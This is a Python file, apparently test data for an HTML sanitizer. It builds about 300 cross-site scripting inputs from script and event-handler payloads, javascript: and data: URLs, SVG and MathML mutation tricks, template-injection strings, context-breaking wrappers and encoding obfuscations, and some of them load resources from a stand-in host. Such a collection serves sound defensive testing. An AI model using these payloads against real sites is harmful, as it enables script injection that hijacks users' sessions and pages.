"""Ways to smuggle a script in: what is smuggled, what it breaks out of, how it is written. ``X()`` is what must not run."""

import hashlib
from itertools import product
from urllib.parse import quote

VECTORS = (
    "<script>X()</script>", "<SCRIPT/x>X()</SCRIPT>", "<script src=//evil.invalid/x.js></script>", "<script type=module>X()</script>",
    "<img src=x onerror=X()>", "<img src=/static/none.png?X onerror=X()>", "<img srcset=http://evil.invalid/x.png>", "<img src=http://evil.invalid/x.png>",
    "<svg onload=X()>", "<svg><animate onbegin=X() attributeName=x>", "<svg><script>X()</script></svg>", "<svg><use href=data:image/svg+xml,X()></svg>",
    "<svg><set attributeName=href to=javascript:X()>", "<svg><foreignObject><img src=x onerror=X()></foreignObject></svg>",
    "<math><mi xlink:href=javascript:X()>m</mi></math>", "<math><mtext><table><mglyph><style><img src=x onerror=X()>",
    "<body onload=X()>", "<details open ontoggle=X()>", "<input autofocus onfocus=X()>", "<video><source onerror=X()>", "<audio src=x onerror=X()>",
    "<marquee onstart=X()>", "<p style=animation:x onanimationstart=X()>", "<div onpointerenter=X() style=position:fixed;inset:0>", "<x contenteditable onblur=X()>",
    "<iframe srcdoc='<script>parent.X()</script>'>", "<iframe src=javascript:parent.X()>", "<object data=javascript:X()>", "<embed src=javascript:X()>",
    "<form action=javascript:X()><button>b</button></form>", "<button formaction=javascript:X() autofocus>b</button>", "<a href=javascript:X()>a</a>",
    "<a href='java&#10;script:X()'>a</a>", "<a ping=http://evil.invalid/ href=/>a</a>", "<base href=http://evil.invalid/>",
    "<link rel=stylesheet href=http://evil.invalid/x.css>", "<link rel=prefetch href=http://evil.invalid/x>", "<meta http-equiv=refresh content='0;url=javascript:X()'>",
    "<style>@import 'http://evil.invalid/x.css'</style>", "<p style=background:url(http://evil.invalid/x)>", "<title>pwned</title>",
    "<noscript><p title='</noscript><img src=x onerror=X()>'>", "<svg></p><style><a title='</style><img src=x onerror=X()>'>",
    "<template><script>X()</script></template>", "<select><template shadowrootmode=open><img src=x onerror=X()></template>", "<dialog open><img src=x onerror=X()>",
    "javascript:X()", "JaVaScRiPt:X()//", "data:text/html,<script>X()</script>", "vbscript:X()", "{{constructor.constructor('X()')()}}", "${X()}", "#{X()}",
    "<%= X() %>", "{% if 1 %}X(){% endif %}", "{{7*7}}", "';X();'", '";X();"', "\\u003cscript\\u003eX()", "__proto__", "onerror=X()",
)  # fmt: skip
WRAPS = (
    "{}", '"{}', "'>{}", '"/>{}<b a="', "</textarea>{}", "</title>{}", "</script>{}", "</style>{}", "--><!-- {} -->", "]]>{}", "`{}`", "\u202e{}\u202c",
    "\u200b{}\u2028", "\r\n\r\n{}", '{{"a":"{}"}}', "<b>{}</b>", "长" * 300 + "{}",
)  # fmt: skip
WRITINGS = (
    str,
    lambda text: text.replace("<", "&lt;").replace(">", "&#x3e;"),
    lambda text: text.replace("<", "&amp;lt;"),
    quote,
    lambda text: "".join(chr(ord(one) + 0xFEE0) if one in "<>\"'=" else one for one in text),
    lambda text: text.replace("scr", "s\u200bcr").replace("on", "o\u00adn"),
    lambda text: text.replace("<", "\ufeff<\u202e"),
    lambda text: text.replace(" ", "/**/"),
    lambda text: text.replace("<", "<\x0c").replace("=", "\x0b="),
    lambda text: text.replace("<", "<<").replace(">", ">>"),
)

EVERY = [write(wrap.format(vector)) for vector, wrap, write in product(VECTORS, WRAPS, WRITINGS)]
MANY = 300


def _mark(text: str) -> bytes:
    return hashlib.blake2s(text.encode(), digest_size=8).digest()


def chosen() -> list[str]:
    """Three hundred of them: every vector plain and in a wrap, the rest drawn, always the same."""
    plain = [*VECTORS, *(WRAPS[n % len(WRAPS)].format(vector) for n, vector in enumerate(VECTORS))]
    rest = sorted(set(EVERY) - set(plain), key=_mark)
    return [*dict.fromkeys(plain), *rest][:MANY]


SHORT = (
    "<img src=x onerror=X()>", "\"'><svg onload=X()>", "</script><script>X()</script>", "</textarea><details open ontoggle=X()>", "javascript:X()",
    "<iframe srcdoc='<script>parent.X()</script>'>", "{{constructor.constructor('X()')()}}", "<base href=http://evil.invalid/><img src=x.png>",
    "<style>*{background:url(http://evil.invalid/x)}</style>", "</title><title>pwned</title>", "' autofocus onfocus=X() x='", "--><img src=x onerror=X()>",
)  # fmt: skip
"""A few that fit any field."""
